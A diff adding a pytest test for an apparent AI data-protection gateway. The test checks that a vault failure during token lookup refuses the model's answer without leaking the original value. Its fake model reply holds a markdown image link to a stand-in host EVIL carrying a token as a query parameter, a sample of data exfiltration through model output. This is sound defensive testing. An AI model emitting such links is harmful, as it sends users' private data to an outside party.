@@ -417,3 +417,33 @@ def test_the_gateway_keeps_the_token_in_an_image_link() -> None:
     for answer in (whole.choices[0].message.content, streamed):
         _link_kept(answer)
     assert [e["links_kept"] for e in sink.calls()] == [1, 1]
+
+
+def test_a_vault_that_fails_while_a_link_token_is_looked_up_fails_the_answer(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The count of kept tokens asks the vault as a restore does: when the vault fails,
+    the answer is refused with a typed error that names no value, and the call is still
+    recorded; nothing raw reaches the caller."""
+    sink = InMemorySink()
+    guard = aiguard.Guard(_policy(), sinks=[sink])
+    with guard.context(subject="cust-42", purpose="inference", conversation="c-1"):
+        earlier = guard.protect(QUESTION, destination="openai")
+    token = TOKEN_RE.search(earlier.payload)
+    assert token is not None
+
+    def down(*_args: Any, **_kwargs: Any) -> str | None:
+        raise ConnectionError(f"vault unreachable while reading {ORIGINAL}")
+
+    monkeypatch.setattr(guard.vault, "detokenize_for", down)
+    fake = FakeModel(reply=f"![c]({EVIL}/?d={token.group(0)}) done")
+    with (
+        guard.context(subject="cust-42", purpose="inference", conversation="c-1"),
+        pytest.raises(aiguard.VaultError) as caught,
+    ):
+        _openai(guard, fake).chat.completions.create(
+            model="gpt-4o", messages=[{"role": "user", "content": "and now?"}]
+        )
+    assert ORIGINAL not in str(caught.value)
+    assert sink.calls()[-1]["status"] == "error"
+    assert_chain_valid(sink)
